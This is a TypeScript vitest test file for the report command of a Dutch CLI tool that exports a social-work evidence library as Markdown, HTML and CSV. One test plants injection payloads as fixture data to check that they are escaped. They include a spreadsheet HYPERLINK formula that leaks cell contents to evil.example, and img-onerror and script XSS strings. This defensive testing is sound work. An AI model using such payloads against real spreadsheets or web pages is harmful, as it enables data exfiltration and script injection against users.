import { cpSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import { describe, expect, test } from 'vitest'
import { runCli, type Run } from './run.js'

const fixtures = fileURLToPath(new URL('../../../tests/fixtures/cite/', import.meta.url))

const run = (...argv: string[]): Promise<Run> => runCli(argv, { cwd: fixtures, library: `${fixtures}library` })

/** The lines of a markdown section, up to the next heading of the same or a higher level. */
function section(markdown: string, heading: string): string[] {
  const lines = markdown.split('\n')
  const start = lines.indexOf(heading)
  expect(start, heading).toBeGreaterThan(-1)
  const level = heading.indexOf(' ')
  const end = lines.findIndex((l, i) => i > start && /^#+ /.test(l) && l.indexOf(' ') <= level)
  return lines.slice(start + 1, end === -1 ? undefined : end).filter((l) => l.trim() !== '')
}

/** The rows of a markdown table as cells. */
function rows(lines: string[]): string[][] {
  return lines.filter((l) => l.startsWith('|')).slice(2).map((l) => l.slice(1, -1).split(' | ').map((c) => c.trim()))
}

/** RFC 4180 records (the fixture has no line breaks inside fields). */
function csv(text: string): string[][] {
  return text
    .replace(/\r\n$/, '')
    .split('\r\n')
    .map((line) => {
      const fields: string[] = []
      let i = 0
      while (i <= line.length) {
        if (line[i] === '"') {
          let value = ''
          i++
          while (i < line.length && !(line[i] === '"' && line[i + 1] !== '"')) {
            value += line[i]
            i += line[i] === '"' ? 2 : 1
          }
          fields.push(value)
          i += 2
        } else {
          const end = line.indexOf(',', i)
          fields.push(line.slice(i, end === -1 ? undefined : end))
          i = end === -1 ? line.length + 1 : end + 1
        }
      }
      return fields
    })
}

describe('report', { timeout: 30_000 }, () => {
  test('should give each methodiek its evidence and literature, strongest evidence first', async () => {
    const r = await run('report')
    expect(r.code).toBe(0)
    expect(rows(section(r.out, '## Onderbouwing per methodiek'))).toEqual([
      ['Signaleringsplan', 'bewezen effectief', '(Fluttert et al., 2010)', '1'],
      ['Presentiebenadering', 'goed beschreven', '(Baart, 2001)', '1'],
      ['Driepartijenoverleg', 'niet vermeld', '—', '1']
    ])
    expect(r.out).toContain('- **Presentiebenadering** (goed beschreven): Beschreven (Baart & anderen); effect &lt;niet> onderzocht.')
  })

  test('should list practices and methods without literature, and whether a method backs the practice', async () => {
    const out = (await run('report', '--format', 'md')).out
    expect(section(out, '### Methodieken (1)')).toEqual(['- Driepartijenoverleg (niet vermeld)'])
    expect(section(out, '### Praktijken (2)')).toEqual(['- Driegesprek: ook niet via een methodiek', '- Kennismaking: wel via Presentiebenadering'])
  })

  test('should group the practices by what their advice rests on, in the schema\'s order', async () => {
    const out = (await run('report')).out
    expect(section(out, '### Beschrijving van één instelling (1)')).toEqual(['- Vroegsignalering'])
    expect(section(out, '### Aanbeveling van de onderzoekers (2)')).toEqual(['- Driegesprek', '- Kennismaking'])
    const headings = section(out, '## Praktijken per grondslag').filter((l) => l.startsWith('### '))
    expect(headings).toEqual(['### Beschrijving van één instelling (1)', '### Aanbeveling van de onderzoekers (2)'])
    const html = (await run('report', '--format', 'html')).out
    expect(html).toContain('<h3>Aanbeveling van de onderzoekers (2)</h3>\n<ul><li>Driegesprek</li><li>Kennismaking</li></ul>')
  })

  test('should list the literature nothing cites, as APA references', async () => {
    const out = (await run('report')).out
    expect(section(out, '## Literatuur die niets aanhaalt (2)')).toEqual([
      '- van Doorn, L. (2003). Niet van de straat: Het recente onderzoek naar daklozen op een rij. *Tijdschrift voor de Sociale Sector (TSS)*, *57*(7/8), 24–29.',
      '- Wolf, J. (2016). *Krachtwerk. Methodisch werken aan participatie en zelfregie*. Uitgeverij Coutinho.'
    ])
  })

  test('should fill the thema × methodiek matrix from the methods and the practices that apply them', async () => {
    const lines = section((await run('report')).out, '## Thema × methodiek')
    expect(lines.find((l) => l.startsWith('| Methodiek'))).toBe('| Methodiek | Veiligheid | Werkalliantie |')
    expect(rows(lines)).toEqual([
      ['Signaleringsplan', 'D+1', '1'],
      ['Presentiebenadering', '', 'D+1'],
      ['Driepartijenoverleg', '', 'D+1']
    ])
  })

  test('should write the same in one CSV table, one row per note and a column per thema', async () => {
    const r = await run('report', '--format', 'csv')
    expect(r.code).toBe(0)
    const table = csv(r.out)
    expect(table[0]).toEqual(['soort', 'titel', 'pad', 'bewijs', 'grondslag', 'literatuur', 'aantal literatuur', 'literatuur via methodiek', 'aangehaald door', 'aantal aangehaald door', 'thema: Veiligheid', 'thema: Werkalliantie'])
    const byTitle = new Map(table.slice(1).map((row) => [row[1], row]))
    expect(byTitle.get('Signaleringsplan')).toEqual(['methodiek', 'Signaleringsplan', 'methodieken/Signaleringsplan.md', 'bewezen effectief', '', 'Fluttert et al. 2010', '1', '', '', '', 'D+1', '1'])
    expect(byTitle.get('Kennismaking')).toEqual(['praktijk', 'Kennismaking', 'praktijken/Kennismaking.md', '', 'aanbeveling van de onderzoekers', '', '0', 'Presentiebenadering', '', '', '', '1'])
    expect(byTitle.get('Vroegsignalering')?.slice(4, 7)).toEqual(['beschrijving van één instelling', 'Menger 2018', '1'])
    expect(byTitle.get('Baart 2001')?.slice(8, 10)).toEqual(['Presentiebenadering', '1'])
    expect(byTitle.get('Wolf 2016')?.slice(8, 10)).toEqual(['', '0'])
    expect(table.slice(1).map((row) => row[0])).toEqual([...Array(3).fill('methodiek'), ...Array(3).fill('praktijk'), ...Array(5).fill('literatuur')])
    expect(table.every((row) => row.length === table[0]?.length)).toBe(true)
  })

  test('should write standalone HTML with every part and a graph picture, and no external reference', async () => {
    const r = await run('report', '--format', 'html')
    expect(r.code).toBe(0)
    const html = r.out
    expect(html.startsWith('<!DOCTYPE html>\n<html lang="nl">')).toBe(true)
    for (const id of ['methodieken', 'grondslag', 'zonder', 'ongeciteerd', 'matrix', 'graaf']) expect(html).toContain(`<h2 id="${id}">`)
    expect(html).toContain('<td class="direct" title="Vroegsignalering">D+1</td>')
    // The picture: one box per connected note, one path per typed connection, laid out by dagre in
    // columns (themes, practices, methods, literature) without overlap.
    const svg = html.slice(html.indexOf('<svg'), html.indexOf('</svg>'))
    expect(svg.match(/<g class="knoop /g)).toHaveLength(11)
    expect(html).toContain('Zonder verbinding, dus niet in het plaatje: van Doorn 2003, Wolf 2016.')
    const column = (kind: string): number[] => [...svg.matchAll(new RegExp(`<g class="knoop ${kind}[^"]*"><title>[^<]*</title><rect x="([\\d.]+)"`, 'g'))].map((m) => Number(m[1]))
    const [themes, practices, methods, literature] = ['thema', 'praktijk', 'methodiek', 'literatuur'].map(column)
    expect(Math.max(...(themes ?? []))).toBeLessThan(Math.min(...(practices ?? [])))
    expect(Math.max(...(practices ?? []))).toBeLessThan(Math.min(...(methods ?? [])))
    expect(Math.max(...(methods ?? []))).toBeLessThan(Math.min(...(literature ?? [])))
    expect(svg).toContain('<g class="knoop methodiek bewijs-bewezen-effectief"><title>Signaleringsplan (methodiek)</title>')
    expect(svg.match(/<path class="rand /g)).toHaveLength(13)
    const boxes = [...svg.matchAll(/<rect x="([\d.]+)" y="([\d.]+)" width="([\d.]+)" height="([\d.]+)"/g)].map((m) => m.slice(1).map(Number))
    const overlap = boxes.some((a, i) => boxes.some((b, j) => i < j && a[0]! < b[0]! + b[2]! && b[0]! < a[0]! + a[2]! && a[1]! < b[1]! + b[3]! && b[1]! < a[1]! + a[3]!))
    expect(overlap).toBe(false)
    // Standalone: nothing to fetch, no script, every link within the page.
    expect(html).not.toMatch(/<script|<link|<img|<iframe|@import|url\((?!#)|src=/i)
    expect(html).not.toMatch(/(?:href|src|xmlns|action|data|poster)\s*=\s*["']?\s*(?:https?:|\/\/)/i)
    expect([...html.matchAll(/href="([^"]*)"/g)].every((m) => m[1]?.startsWith('#'))).toBe(true)
    expect(html).toContain('<a href="#graaf">')
    // DOIs are there to read, as text.
    expect(html).toContain('https://doi.org/10.1111/j.1365-2702.2009.02986.x')
  })

  test('should escape the text of notes in HTML', async () => {
    const html = (await run('report', '--format', 'html')).out
    expect(html).toContain('<td>Beschreven (Baart &amp; anderen); effect &lt;niet&gt; onderzocht.</td>')
    expect(html).not.toContain('<niet>')
  })

  // A title can come from a third party's RIS or BibTeX file through `cite import` (F23).
  test('should keep formulas out of the CSV and raw HTML out of the Markdown', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'praktijkwijzer-report-'))
    try {
      cpSync(`${fixtures}library`, join(dir, 'lib'), { recursive: true })
      writeFileSync(
        join(dir, 'lib', 'methodieken', 'Formule.md'),
        '---\ntype: methodiek\ntitle: \'=HYPERLINK("http://evil.example/?x="&A1,"klik")\'\nbron: ["2.3"]\nbewijs: veelbelovend\nbewijstoelichting: "<img src=x onerror=alert(1)>"\nliteratuur: ["[[Kwaad 2020]]"]\n---\n# Formule\n'
      )
      writeFileSync(join(dir, 'lib', 'praktijken', 'Min.md'), '---\ntype: praktijk\ntitle: "-2+3"\nbron: ["2.3"]\n---\n# Min\n')
      writeFileSync(join(dir, 'lib', 'praktijken', 'At.md'), '---\ntype: praktijk\ntitle: "@SUM(A1)"\nbron: ["2.3"]\n---\n# At\n')
      writeFileSync(join(dir, 'lib', 'literatuur', 'Kwaad 2020.md'), '---\ntype: literatuur\nbron: ["2.3"]\nauteurs: ["Kwaad, K."]\njaar: 2020\ntitel: "<script>alert(1)</script>"\nsoort: boek\n---\n# Kwaad 2020\n')
      writeFileSync(join(dir, 'lib', 'literatuur', 'Los 2021.md'), '---\ntype: literatuur\nbron: ["2.3"]\nauteurs: ["Los, L."]\njaar: 2021\ntitel: "<b onmouseover=alert(1)>los</b>"\nsoort: boek\ndoi: "10.1000/x"\n---\n# Los 2021\n')
      const table = csv((await run('report', join(dir, 'lib'), '--format', 'csv')).out)
      const titles = table.map((row) => row[1] ?? '')
      expect(titles).toContain(`'=HYPERLINK("http://evil.example/?x="&A1,"klik")`)
      expect(titles).toContain("'-2+3")
      expect(titles).toContain("'@SUM(A1)")
      for (const cell of table.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/)

      const md = (await run('report', join(dir, 'lib'))).out
      expect(md).not.toMatch(/<(?:script|img|b)\b/)
      expect(md).toContain('&lt;img src=x onerror=alert(1)>')
      // Links stay links.
      expect(md).toContain('<https://doi.org/10.1000/x>')
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })

  test.each([
    [['report', '--format', 'pdf'], '--format verwacht een van: md, html, csv'],
    [['report', 'nergens'], 'map niet gevonden: nergens'],
    [['report', '--graaf'], 'onbekende optie --graaf'],
    [['report', 'a', 'b'], 'onverwacht argument: b']
  ])('should exit 2 for %j', async (argv, message) => {
    const r = await run(...argv)
    expect(r.code).toBe(2)
    expect(r.err).toContain(message)
  })

  test('should explain itself with --help', async () => {
    const r = await run('report', '--help')
    expect(r.code).toBe(0)
    expect(r.out).toContain('Gebruik: praktijkwijzer report [MAP] [--library MAP] [--format md|html|csv]')
  })
})
